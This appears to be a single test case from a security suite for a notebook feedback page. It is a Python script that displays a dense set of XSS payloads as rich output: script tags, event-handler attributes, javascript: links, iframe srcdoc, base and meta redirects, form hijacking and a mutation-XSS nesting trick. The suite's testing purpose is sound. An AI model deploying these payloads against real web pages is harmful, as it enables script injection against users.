# attack: 48
# title: scripts, handlers, frames and foreign images as rich output
# success: one of them is active in the feedback page
# naive: page
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

TEXT = """<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>"></iframe><a href="javascript:alert(1)">a</a>
<div style="background:url(//example.org/x)" onclick=alert(1)>d</div><table><tr
onmouseover=alert(1)><td background=//example.org/y>x</table></pre></main></body>
<style>@import "//example.org/z"</style><base href="//example.org/"><meta
http-equiv=refresh content="0;url=//example.org"><form action=//example.org><input autofocus
onfocus=alert(1)></form><math><mtext><table><mglyph><style><!--</style><img title="--&gt;
&lt;img src=1 onerror=alert(1)&gt;">"""
display(HTML(TEXT), Javascript("alert(1)"), Markdown(TEXT), Latex(TEXT))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"))
display({"image/png": '"><script>alert(1)</script>'}, raw=True)
display({"text/html": TEXT, "text/plain": TEXT, "image/jpeg": TEXT}, raw=True)
print(TEXT)
